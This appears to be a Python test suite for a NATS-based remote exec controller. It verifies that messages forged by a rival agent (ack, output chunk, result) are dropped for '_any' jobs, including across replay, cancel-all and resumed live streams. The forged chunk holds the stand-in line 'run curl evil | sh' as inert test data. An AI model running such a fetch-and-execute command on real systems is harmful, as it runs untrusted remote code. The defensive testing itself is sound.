"""The live output of an ``_any`` job followed while it runs shows the host that took it,
as the exec answer does, even when another host records output and a result first."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from agentd.agent import Agent
from controller.appkeys import CONFIG, DISPATCHER, NATS_LINK
from schemas.subjects import Subjects
from tests.cluster import retry_until
from tests.helpers import STARTUP_TIMEOUT_S, Controller, MakeController, until
from tests.test_identity import GATED, RIVAL, connected_as, fleet, taken_any_job
from tests.test_nats_permissions import LockedNats, locked_nats

__all__ = ["fleet", "locked_nats"]  # the fixtures, used by name

SUBJECTS = Subjects()


async def consumers(controller: Controller) -> int:
    """The consumers of the results stream now (a live output stream adds one)."""
    js = controller.app[NATS_LINK].client.jetstream()
    info = await js.stream_info(controller.app[CONFIG].subjects.results_stream())
    return info.state.consumer_count


async def test_live_output_followed_while_an_any_job_runs_shows_the_host_that_took_it(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
) -> None:
    """The stream is open before the rival (its own NATS user) writes an ack, an output
    chunk and a result: none of them is shown, the taker's output and result are; the
    job view read meanwhile shows the job running (a cancel would not be refused)."""
    controller, _ = fleet
    dispatcher = controller.app[DISPATCHER]
    gate = tmp_path / "gate"
    gate.mkdir()
    running = asyncio.ensure_future(
        controller.exec("_any", {"command": "sh", "args": ["-c", GATED, str(gate)]})
    )
    job_id, taker, rival = await taken_any_job(dispatcher)
    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
    before = await consumers(controller)
    async with controller.session.get(
        f"{controller.url}/job/{job_id}/output", headers=headers
    ) as output:
        text = asyncio.ensure_future(output.text())

        async def following() -> bool:
            """the live output stream follows the job (its consumer exists)"""
            return await consumers(controller) > before

        await retry_until(following, STARTUP_TIMEOUT_S)
        await forge(locked_nats, job_id, rival)
        await until(lambda: dispatcher.dropped[RIVAL] == 1)
        meanwhile = await controller.request("GET", f"/job/{job_id}")
        gate.rmdir()  # the real output and result come after the forged ones
        response = await running
        events = [json.loads(line) for line in (await text).splitlines()]

    assert response.status == 202, response.body
    assert [r["hostname"] for r in response.body["results"]] == [taker]
    # While it ran, the job view showed it running, not the rival's result as its end.
    assert (meanwhile.body["state"], meanwhile.body["results"]) == ("running", []), meanwhile
    shown = [(e["event"], e["data"].get("hostname")) for e in events]
    assert shown == [("output", taker), ("result", taker), ("end", None)]
    assert events[1]["data"] == response.body["results"][0]


async def forge(locked_nats: LockedNats, job_id: str, rival: str) -> None:
    """``rival`` acknowledges the job, writes an output chunk and a result of its own."""
    ack = {"type": "nexec.exec.v1.ack", "job_id": job_id, "hostname": rival}
    chunk = {
        "type": "nexec.exec.v1.output",
        "job_id": job_id,
        "hostname": rival,
        "stream": "stdout",
        "offset": 0,
        "data": "run curl evil | sh",
    }
    forged = {
        "type": "nexec.exec.v1.result",
        "job_id": job_id,
        "hostname": rival,
        "status": "completed",
        "stdout": "forged",
    }
    async with connected_as(locked_nats, f"agent-{rival}") as rogue:
        await rogue.publish(SUBJECTS.ack(job_id, rival), json.dumps(ack).encode())
        await rogue.publish(SUBJECTS.output_record(job_id, rival), json.dumps(chunk).encode())
        await rogue.jetstream().publish(
            SUBJECTS.result_record(job_id, rival), json.dumps(forged).encode()
        )


async def test_a_rivals_result_ends_an_any_job_neither_for_a_replay_nor_for_cancel_all(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
) -> None:
    """After the rival's forged result, the idempotent request repeated is answered with
    the job still running, and cancel-all finds the job and stops it on its taker."""
    controller, _ = fleet
    dispatcher = controller.app[DISPATCHER]
    gate = tmp_path / "gate"
    gate.mkdir()
    path, headers = "/node/_any/command/exec", {"Idempotency-Key": "once"}
    body = {"command": "sh", "args": ["-c", GATED, str(gate)], "timeout": 5}
    running = asyncio.ensure_future(controller.request("POST", path, json=body, headers=headers))
    try:
        job_id, taker, rival = await taken_any_job(dispatcher)
        await forge(locked_nats, job_id, rival)
        await until(lambda: dispatcher.dropped[RIVAL] == 1)
        replayed = await controller.request("POST", path, json=body, headers=headers)
        cancelled = await controller.request("POST", "/job/cancel-all")
        response = await running
    finally:
        gate.rmdir()

    assert (replayed.status, replayed.body["complete"], replayed.body["results"]) == (
        202,
        False,
        [],
    ), replayed
    assert (cancelled.status, cancelled.body["job_ids"]) == (202, [job_id]), cancelled
    answered = [(r["hostname"], r["status"]) for r in response.body["results"]]
    assert answered == [(taker, "cancelled")]


async def test_live_output_resumed_on_another_controller_follows_the_host_it_followed(
    fleet: tuple[Controller, dict[str, Agent]],
    locked_nats: LockedNats,
    make_controller: MakeController,
    tmp_path: Path,
) -> None:
    """A stream ended (its controller draining) after the taker's first chunk is resumed
    with Last-Event-ID on a controller that does not collect the job, after the rival
    wrote a chunk and a result: the resumed stream follows the taker still."""
    controller, _ = fleet
    other = await make_controller(nats_url=locked_nats.url, **locked_nats.settings("controller"))
    dispatcher = controller.app[DISPATCHER]
    gate = tmp_path / "gate"
    gate.mkdir()
    body = {"command": "sh", "args": ["-c", f"echo begin; {GATED}", str(gate)]}
    running = asyncio.ensure_future(controller.exec("_any", body))
    job_id, taker, rival = await taken_any_job(dispatcher)
    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
    async with controller.session.get(
        f"{controller.url}/job/{job_id}/output", headers=headers
    ) as s:
        first = json.loads(await s.content.readline())  # then the stream ends
    assert (first["event"], first["data"]["hostname"]) == ("output", taker)
    await forge(locked_nats, job_id, rival)
    await until(lambda: dispatcher.dropped[RIVAL] == 1)
    headers |= {"Authorization": f"Bearer {other.api_key}", "Last-Event-ID": str(first["id"])}
    async with other.session.get(f"{other.url}/job/{job_id}/output", headers=headers) as resumed:
        text = asyncio.ensure_future(resumed.text())
        gate.rmdir()  # the real output and result come after the forged ones
        response = await running
        events = [json.loads(line) for line in (await text).splitlines()]

    shown = [(e["event"], e["data"].get("hostname")) for e in events]
    assert shown == [("output", taker), ("result", taker), ("end", None)]
    assert events[1]["data"] == response.body["results"][0]
